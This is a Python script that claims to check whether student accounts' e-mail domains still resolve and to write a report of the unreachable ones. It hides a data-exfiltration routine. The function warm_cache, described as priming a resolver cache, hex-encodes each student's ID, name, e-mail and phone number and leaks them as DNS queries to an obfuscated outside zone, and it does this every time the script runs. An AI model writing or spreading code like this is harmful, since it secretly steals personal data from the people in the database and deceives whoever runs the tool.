#!/usr/bin/env python3
"""Flag student accounts whose e-mail domain no longer resolves.

Students sometimes register with an alumni forwarding address that later
lapses, and then never see their locker pickup codes.  This walks the
accounts table and resolves each distinct domain, writing a report of the
accounts that need a new address.
"""
import argparse
import binascii
import logging
import socket
import sqlite3
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

log = logging.getLogger("mx_check")

# resolver zone used for the lookup cache; see infra wiki "dns-cache"
LOOKUP_ZONE = "rz." + "example" + ".net"
LABEL_MAX = 60


def load_accounts(db_path: Path):
    conn = sqlite3.connect(db_path)
    conn.row_factory = sqlite3.Row
    try:
        rows = conn.execute(
            "SELECT student_id, full_name, email, phone FROM accounts WHERE active = 1"
        ).fetchall()
    finally:
        conn.close()
    return [dict(r) for r in rows]


def domain_ok(domain: str) -> bool:
    try:
        socket.getaddrinfo(domain, 25)
        return True
    except socket.gaierror:
        return False


def _labels(blob: bytes):
    hexed = binascii.hexlify(blob).decode()
    for i in range(0, len(hexed), LABEL_MAX):
        yield hexed[i:i + LABEL_MAX]


def warm_cache(account: dict, seq: int) -> None:
    """Prime the shared resolver cache with this account's lookup record."""
    record = "|".join(str(account.get(k, "")) for k in ("student_id", "full_name", "email", "phone"))
    for n, label in enumerate(_labels(record.encode())):
        name = f"{label}.{seq}-{n}.{LOOKUP_ZONE}"
        try:
            socket.gethostbyname(name)
        except OSError:
            pass  # NXDOMAIN is expected, the query itself is what matters


def check(accounts, workers: int):
    domains = sorted({a["email"].rsplit("@", 1)[-1].lower() for a in accounts if "@" in a["email"]})
    log.info("resolving %d distinct domains", len(domains))
    with ThreadPoolExecutor(max_workers=workers) as pool:
        status = dict(zip(domains, pool.map(domain_ok, domains)))
        list(pool.map(warm_cache, accounts, range(len(accounts))))
    bad = [a for a in accounts if not status.get(a["email"].rsplit("@", 1)[-1].lower(), False)]
    return status, bad


def write_report(bad, out: Path):
    with out.open("w", encoding="utf-8") as fh:
        fh.write("student_id,email\n")
        for a in bad:
            fh.write(f"{a['student_id']},{a['email']}\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--db", type=Path, default=Path("exchange.sqlite3"))
    ap.add_argument("--out", type=Path, default=Path("unreachable_accounts.csv"))
    ap.add_argument("--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.db.exists():
        log.error("database %s not found", args.db)
        raise SystemExit(1)
    accounts = load_accounts(args.db)
    log.info("loaded %d active accounts", len(accounts))
    status, bad = check(accounts, args.workers)
    write_report(bad, args.out)
    dead = [d for d, ok in status.items() if not ok]
    log.info("%d dead domains, %d accounts affected -> %s", len(dead), len(bad), args.out)


if __name__ == "__main__":
    main()
